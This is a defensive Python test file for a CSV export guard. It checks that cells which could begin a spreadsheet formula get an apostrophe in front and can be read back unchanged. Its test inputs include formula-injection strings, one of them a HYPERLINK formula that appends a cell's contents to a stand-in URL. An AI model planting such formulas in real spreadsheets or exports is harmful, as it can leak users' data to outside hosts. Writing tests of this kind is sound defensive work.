"""Cells of CSV: nobody's name is a formula, and each can be read back."""

import re
import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st

from campaign_service.report.csv_cells import guarded, unguarded

TEXTS = (
    st.text(st.sampled_from("=+-@\uff1d\uff0b\uff0d\uff20;,'\"\t\r\n |a\u00a0é"), max_size=12)
    | st.text()
)
FORMULA = re.compile("\\s*[=+\\-@\uff1d\uff0b\uff0d\uff20]")


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ('=HYPERLINK("http://x/"&C2)', '\'=HYPERLINK("http://x/"&C2)'),
        ("Rossi;=1+1", "Rossi;'=1+1"),
        ("Rossi; =1+1", "Rossi;' =1+1"),
        ("\uff1d1", "'\uff1d1"),
        ("\uff0b1", "'\uff0b1"),
        ("\uff0d1", "'\uff0d1"),
        ("\uff20a", "'\uff20a"),
        ("\u2212\u0031", "'\u2212\u0031"),
        ("\ufe66\u0031", "'\ufe66\u0031"),
        ("\ufeff=1", "'\ufeff=1"),
        ("\u200b\u200d@a", "'\u200b\u200d@a"),
        ("Rossi|=1", "Rossi|'=1"),
        ("  =1", "'  =1"),
        ("\u3000=1", "'\u3000=1"),
        ("\t=1", "'\t'=1"),
        ("\ra", "'\ra"),
        ("a\n-1", "a\n'-1"),
        ("'=1", "''=1"),
        ("O'Neill", "O'Neill"),
        ("Ada = Countess", "Ada = Countess"),
        ("Rossi; Anna", "Rossi; Anna"),
        ("", ""),
    ],
)
def test_apostrophe_stands_before_what_may_be_a_formula(text, written):
    """R9.2: a log is exported to be read; what a name says is never done."""
    assert guarded(text) == written


@given(st.characters(categories=["P", "S", "N", "L"]))
def test_sign_that_is_compatible_with_one_of_a_formula_is_guarded(sign):
    """Issue: full-width signs, and their kin."""
    is_formula = unicodedata.normalize("NFKC", sign) in {"=", "+", "-", "@", "\u2212"}
    assert (guarded(f"{sign}1") != f"{sign}1") == is_formula


@given(TEXTS)
def test_what_was_guarded_is_read_back_as_it_was(text):
    """Issue: `campaign` reads its own CSV back to the same texts."""
    assert unguarded(guarded(text)) == text


@given(TEXTS, st.sampled_from([";", "\t", "\n", "\r", "\r\n"]))
def test_no_cell_begins_a_formula_wherever_cells_begin(text, separator):
    """Issue: texts are safe in spreadsheets that split at commas and at semicolons."""
    cells = guarded(text).split(separator)
    assert [cell for cell in cells if FORMULA.match(cell)] == []
